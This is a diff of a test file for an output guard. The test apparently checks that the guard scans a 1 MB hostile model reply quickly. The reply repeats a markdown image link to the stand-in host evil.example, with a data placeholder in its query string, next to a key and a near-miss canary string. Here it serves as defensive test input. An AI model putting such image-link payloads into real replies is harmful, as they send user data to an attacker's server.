@@ -116,7 +116,8 @@ describe("createOutputGuard", () => {
   });
 
   it("guards a 1 MB hostile reply in well under 5 s", () => {
-    const unit = `![a](https://evil.example/x?q=[EMAIL_1]) ${KEY} ${CANARY.slice(0, -1)} [EMAIL_1] `;
+    // A near miss of the canary: its prefix and eleven of its random characters, one short of a partial leak.
+    const unit = `![a](https://evil.example/x?q=[EMAIL_1]) ${KEY} ${CANARY.slice(0, 16)} [EMAIL_1] `;
     const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
     const chunks = text.match(/[\s\S]{1,64}/g) ?? [];
     const started = performance.now();
